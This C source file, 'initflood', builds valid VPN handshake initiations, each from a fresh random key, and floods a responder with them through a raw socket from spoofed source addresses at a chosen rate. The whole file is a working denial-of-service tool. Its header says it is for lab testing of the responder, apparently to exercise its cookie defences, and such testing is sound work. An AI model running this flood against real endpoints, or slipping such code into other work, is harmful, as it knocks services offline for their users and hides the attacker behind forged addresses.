/*
 * A stranger's flood: handshake initiations that are valid in every way a
 * responder can check before the network secret (a fresh random static key
 * each, properly encrypted to the responder's public key, with mac1), sent
 * from spoofed source addresses through a raw socket. For the lab only: it
 * sends only where it is told, from addresses in the prefix it is given.
 *
 * usage: initflood DST_ADDR DST_PORT RESPONDER_PUBLIC_KEY SECONDS RATE SPOOF_NET/LEN
 * Prints how many initiations it sent.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "addr.h"
#include "base64.h"
#include "clock.h"
#include "cookie.h"
#include "crypto.h"
#include "noise.h"

struct datagram {
	struct iphdr ip;
	struct udphdr udp;
	struct message_handshake_initiation msg;
} __attribute__((packed));

/* A valid initiation from a new random identity to the responder. */
static int make_initiation(struct message_handshake_initiation *msg, const uint8_t responder[32])
{
	static const uint8_t no_psk[NOISE_SYMMETRIC_KEY_LEN];
	struct noise_static_identity identity;
	struct noise_handshake hs;
	struct cookie cookie;
	uint32_t index;

	if (crypto_random(identity.static_private, sizeof(identity.static_private)) ||
	    x25519_public(identity.static_public, identity.static_private) ||
	    noise_handshake_init(&hs, &identity, responder, no_psk) ||
	    crypto_random(&index, sizeof(index)) ||
	    noise_handshake_create_initiation(msg, &hs, index))
		return -1;
	cookie_init(&cookie, responder);
	cookie_add_macs(&cookie, msg, sizeof(*msg), clock_ms());
	return 0;
}

/* A random address of the prefix, never its first or last. */
static uint32_t spoofed(const struct ipv4_prefix *net)
{
	uint32_t hosts = net->length >= 31 ? 1 : (1U << (32 - net->length)) - 2, r;

	crypto_random(&r, sizeof(r));
	return htonl(ntohl(net->network.s_addr) + 1 + r % hosts);
}

static void sleep_until(const struct timespec *start, double seconds)
{
	struct timespec at = *start;

	at.tv_sec += (time_t)seconds;
	at.tv_nsec += (long)((seconds - (double)(time_t)seconds) * 1e9);
	if (at.tv_nsec >= 1000000000L) {
		at.tv_sec++;
		at.tv_nsec -= 1000000000L;
	}
	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &at, NULL);
}

int main(int argc, char **argv)
{
	struct datagram d = {0};
	struct sockaddr_in to = {.sin_family = AF_INET};
	struct ipv4_prefix net;
	uint8_t responder[32];
	struct timespec start;
	double seconds, rate;
	unsigned long sent = 0;
	int fd;

	if (argc != 7 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
	    base64_decode_exact(responder, sizeof(responder), argv[3]) ||
	    ipv4_prefix_parse(argv[6], &net)) {
		fprintf(stderr, "usage: initflood DST_ADDR DST_PORT RESPONDER_PUBLIC_KEY SECONDS "
				"RATE SPOOF_NET/LEN\n");
		return 2;
	}
	to.sin_port = htons((uint16_t)atoi(argv[2]));
	seconds = atof(argv[4]);
	rate = atof(argv[5]);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || rate <= 0) {
		perror("initflood: raw socket");
		return 1;
	}
	d.ip.version = 4;
	d.ip.ihl = 5;
	d.ip.ttl = 64;
	d.ip.protocol = IPPROTO_UDP;
	d.ip.tot_len = htons(sizeof(d));
	d.ip.daddr = to.sin_addr.s_addr;
	d.udp.dest = to.sin_port;
	d.udp.len = htons(sizeof(d.udp) + sizeof(d.msg));
	clock_gettime(CLOCK_MONOTONIC, &start);
	for (; sent < (unsigned long)(seconds * rate); sent++) {
		uint16_t port;

		if (make_initiation(&d.msg, responder))
			return 1;
		crypto_random(&port, sizeof(port));
		d.ip.saddr = spoofed(&net);
		d.udp.source = htons((uint16_t)(1024 + port % 60000));
		/* The kernel fills in the IP checksum and ID; UDP's may be 0. */
		if (sendto(fd, &d, sizeof(d), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
			perror("initflood: sendto");
			return 1;
		}
		sleep_until(&start, (double)(sent + 1) / rate);
	}
	printf("%lu initiations sent\n", sent);
	return 0;
}
